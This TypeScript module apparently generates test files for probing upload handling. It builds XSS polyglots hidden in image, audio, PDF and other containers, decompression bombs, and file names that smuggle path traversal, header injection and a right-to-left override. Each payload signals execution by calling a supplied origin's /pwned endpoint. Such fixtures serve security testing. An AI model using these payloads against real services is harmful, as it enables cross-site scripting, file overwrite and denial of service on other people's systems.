import { deflateSync, gzipSync } from 'node:zlib';
import { blocks, box, chunk, gif, hex, png, riff, riffChunk, segment, zip } from './file-formats.ts';

/** A file with executable content, or a decompression bomb. */
export interface Polyglot {
  name: string;
  bytes: Buffer;
}

const MEGABYTE = 1024 * 1024;

/** Each file reveals its execution by an alert and by a request to `/pwned` at `origin`. */
export function polyglots(origin: string): Polyglot[] {
  const script = `window.pwned=1;new Image().src='${origin}/pwned';fetch('${origin}/pwned');alert(1)`;
  const html = `<!doctype html><html><body onload="${script}"><script>${script}</script><img src=x onerror="${script}">`;
  return [
    ...pages(html, script),
    ...pictures(html, script),
    ...sounds(html),
    ...programs(html, script),
    ...bombs(),
  ];
}

function pages(html: string, script: string): Polyglot[] {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${script}"><script>${script}</script></svg>`;
  const utf16 = (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le');
  const utf7 = html.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-').replaceAll('"', '+ACI-');
  const style = `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><x><xsl:stylesheet id="s" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">${html}</xsl:template></xsl:stylesheet></x>`;
  return [
    text('x.html', html),
    text('bom.htm', `\ufeff${html}`),
    { name: 'utf16le.html', bytes: utf16(html) },
    { name: 'utf16be.html', bytes: utf16(html).swap16() },
    { name: 'utf32.html', bytes: Buffer.concat([utf16(''), Buffer.alloc(2), Buffer.from(html, 'ucs2')]) },
    text('utf7.html', `<meta charset="utf-7">${utf7}`),
    text('iso2022.html', `<meta charset="iso-2022-jp">\u001b$B\u001b(B${html}`),
    text('late.html', `${' '.repeat(2_000)}<!-- ${'-'.repeat(2_000)} -->${html}`),
    text('nul.html', html.replace('<script', '<\0script')),
    text('x.xhtml', `<html xmlns="http://www.w3.org/1999/xhtml"><script>${script}</script></html>`),
    text('style.xml', style),
    text('x.svg', svg),
    text('svg.png', svg),
    text('doctype.svg', `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY s "${'&amp;'.repeat(9)}">]>${svg}`),
    { name: 'utf16.svg', bytes: utf16(`<?xml version="1.0" encoding="utf-16"?>${svg}`) },
    text(
      'x.mht',
      `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n${html}\r\n--x--`,
    ),
  ];
}

function pictures(html: string, script: string): Polyglot[] {
  const dot = png(1, 1, deflateSync(Buffer.alloc(2)));
  const pixels = Buffer.concat([Buffer.alloc(1), Buffer.from(html)]);
  const jpeg = (...segments: Buffer[]) => Buffer.concat([hex('ffd8'), ...segments, hex('ffd9')]);
  const frame = hex('ffc0000b08ffffffff01011100');
  return [
    {
      name: 'text.png',
      bytes: png(1, 1, deflateSync(Buffer.alloc(2)), chunk('tEXt', Buffer.from(`a\0${html}`))),
    },
    { name: '"; filename="behind.html', bytes: Buffer.concat([dot, Buffer.from(html)]) },
    // The stored pixels are the page, so removing metadata does not remove it.
    { name: 'pixels.html', bytes: png(html.length, 1, deflateSync(pixels, { level: 0 })) },
    { name: 'comment.gif', bytes: gif(1, 1, Buffer.concat([hex('21fe'), blocks(html), hex('00')]), 1) },
    { name: 'script.gif', bytes: Buffer.from(`GIF89a=1;/*\0*/${script}//`) },
    {
      name: 'gifar.jar',
      bytes: Buffer.concat([gif(1, 1, Buffer.alloc(0), 1), zip('x.html', Buffer.from(html))]),
    },
    { name: 'comment.jpg', bytes: jpeg(segment(0xfe, html)) },
    {
      name: 'script.jpg',
      bytes: Buffer.concat([hex('ffd8ffe02f2a'), Buffer.alloc(0x2f28), Buffer.from(`*/=1;${script}//`)]),
    },
    {
      name: 'lengths.jpg',
      bytes: jpeg(hex('ffe00000ffe10001ffe2ffff'), Buffer.from(html), hex('ffda0001'), frame),
    },
    {
      name: 'chunk.webp',
      bytes: riff('WEBP', Buffer.concat([riffChunk('HTML', html), riffChunk('VP8L', html)])),
    },
    {
      name: 'x.avif',
      bytes: Buffer.concat([box('ftyp', 'avif\0\0\0\0avifmif1'), box('meta', html), box('mdat', html)]),
    },
    { name: 'x.bmp', bytes: Buffer.concat([Buffer.from('BM'), Buffer.from(html)]) },
    { name: 'x.ico', bytes: Buffer.concat([hex('00000100'), Buffer.from(html)]) },
  ];
}

function sounds(html: string): Polyglot[] {
  const id3 = Buffer.concat([Buffer.from('ID3\x04\0\0\0\0\x07\x76'), Buffer.from(html.padEnd(1_014))]);
  const frame = Buffer.concat([hex('fffb9064'), Buffer.alloc(413)]);
  return [
    { name: 'x.mp3', bytes: Buffer.concat([id3, frame, frame, Buffer.from(html)]) },
    {
      name: 'x.mp4',
      bytes: Buffer.concat([box('ftyp', 'isom\0\0\x02\0isommp41'), box('udta', html), box('moov', html)]),
    },
    { name: 'x.webm', bytes: Buffer.concat([hex('1a45dfa39f4282847765626d'), Buffer.from(html)]) },
    {
      name: 'x.wav',
      bytes: riff('WAVE', Buffer.concat([riffChunk('fmt ', '\x01\0\x01\0'), riffChunk('LIST', html)])),
    },
    { name: 'x.ogg', bytes: Buffer.concat([Buffer.from('OggS\0\x02'), Buffer.alloc(22), Buffer.from(html)]) },
  ];
}

function programs(html: string, script: string): Polyglot[] {
  const pdf = `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\("/pwned"\\))>>>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n${html}`;
  return [
    text('../../../../etc/x.pdf', pdf),
    text('..\\..\\worker.js', `self.addEventListener('fetch', () => {});${script}`),
    text(`${'long'.repeat(62)}.html`, script),
    text('x.css', `body{background:url(/pwned)}@import "/pwned";</style>${html}`),
    text('x\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>', html),
    text('x\u202elmth.exe', `[InternetShortcut]\nURL=javascript:${script}`),
    { name: 'x.wasm', bytes: Buffer.concat([hex('0061736d01000000'), Buffer.from(html)]) },
    { name: 'x.swf', bytes: Buffer.concat([Buffer.from('FWS\x06'), Buffer.from(html)]) },
  ];
}

/** Decompression bombs: small files with a large content. */
function bombs(): Polyglot[] {
  const zeros = Buffer.alloc(64 * MEGABYTE);
  const line = 1 + 20_000 / 8;
  const profile = Buffer.concat([Buffer.from('icc\0\0'), deflateSync(zeros, { level: 1 })]);
  const frames = Buffer.concat(
    Array.from({ length: 20_000 }, () => hex('2c000000000100010000020244010000').subarray(0, 15)),
  );
  return [
    { name: 'header.png', bytes: png(30_000, 30_000, deflateSync(Buffer.alloc(2))) },
    {
      name: 'pixels.png',
      bytes: png(
        20_000,
        20_000,
        deflateSync(zeros.subarray(0, line * 20_000), { level: 1 }),
        Buffer.alloc(0),
        1,
      ),
    },
    { name: 'profile.png', bytes: png(1, 1, deflateSync(Buffer.alloc(2)), chunk('iCCP', profile)) },
    { name: 'words.png', bytes: png(1, 1, deflateSync(Buffer.alloc(2)), chunk('zTXt', profile)) },
    { name: 'largest.gif', bytes: gif(65_535, 65_535, Buffer.alloc(0), 1) },
    { name: 'frames.gif', bytes: gif(5_000, 5_000, frames, 0) },
    {
      name: 'largest.jpg',
      bytes: Buffer.concat([hex('ffd8ffc0001108ffffffff03011100021101031101'), hex('ffd9')]),
    },
    { name: 'x.gz', bytes: gzipSync(zeros, { level: 1 }) },
    { name: '[Content_Types].docx', bytes: zip('[Content_Types].xml', zeros) },
    { name: 'mimetype.odt', bytes: zip('mimetype', zeros) },
  ];
}

/** A picture of 32 megapixels, in few bytes. */
export function largestPicture(): Polyglot {
  const pixels = deflateSync(Buffer.alloc((1 + 8_000) * 4_000), { level: 1 });
  return { name: 'largest.png', bytes: png(8_000, 4_000, pixels) };
}

function text(name: string, words: string): Polyglot {
  return { name, bytes: Buffer.from(words) };
}
